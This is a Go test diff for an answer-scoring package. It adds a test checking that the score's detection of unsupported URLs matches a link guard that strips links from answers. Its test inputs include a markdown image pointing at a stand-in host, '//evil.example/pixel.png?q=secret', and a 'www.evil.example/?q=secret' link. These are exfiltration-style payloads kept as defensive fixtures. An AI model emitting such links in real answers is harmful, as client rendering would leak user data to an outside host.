@@ -1,6 +1,7 @@
 package eval
 
 import (
+	"errors"
 	"math"
 	"slices"
 	"testing"
@@ -166,6 +167,44 @@ func TestUnsupportedURLs(t *testing.T) {
 	for _, tc := range cases {
 		if got := UnsupportedURLs(tc.shown, allowed); !slices.Equal(got, tc.want) {
 			t.Errorf("%q: %v, want %v", tc.shown, got, tc.want)
+		}
+	}
+}
+
+// The score finds and judges an answer's links as the route's link guard
+// does. Its own reading (a regexp for http(s) and ftp URLs, cut at its own
+// punctuation) disagreed with the guard both ways: it called an answer's
+// URL unsupported where the fragment closed it with strikethrough "~~"
+// (the guard ends the URL before it, as a client does, and lets the
+// answer's through), and it saw no link in a scheme-relative "//host" or
+// a "www." autolink, which the guard removes because a client loads or
+// links them.
+func TestUnsupportedURLsAgreeWithTheLinkGuard(t *testing.T) {
+	allowed := []string{"The old endpoint ~~https://api.acme.example/v1~~ answers 410 since March."}
+	links := answer.AllowedLinks{}
+	links.AddText(allowed[0])
+	cases := []struct {
+		shown string
+		want  []string
+	}{
+		// The regexp: unsupported (it kept "~~" in the fragment's URL).
+		{"Calls to https://api.acme.example/v1 get 410.", nil},
+		// The regexp: no link at all.
+		{"See ![status](//evil.example/pixel.png?q=secret).", []string{"//evil.example/pixel.png?q=secret"}},
+		{"Open www.evil.example/?q=secret for more.", []string{"www.evil.example/?q=secret"}},
+	}
+	for _, tc := range cases {
+		got := UnsupportedURLs(tc.shown, allowed)
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("%q: unsupported %q, want %q", tc.shown, got, tc.want)
+		}
+		guard := answer.NewLinkGuard(links)
+		pipe := answer.NewPipe(func(string) error { return nil }, guard)
+		if err := errors.Join(pipe.Write(tc.shown), pipe.Flush()); err != nil {
+			t.Fatal(err)
+		}
+		if removes := guard.Removed() > 0; removes != (len(got) > 0) {
+			t.Errorf("%q: the guard removes a link: %v; the score finds one unsupported: %v", tc.shown, removes, len(got) > 0)
 		}
 	}
 }
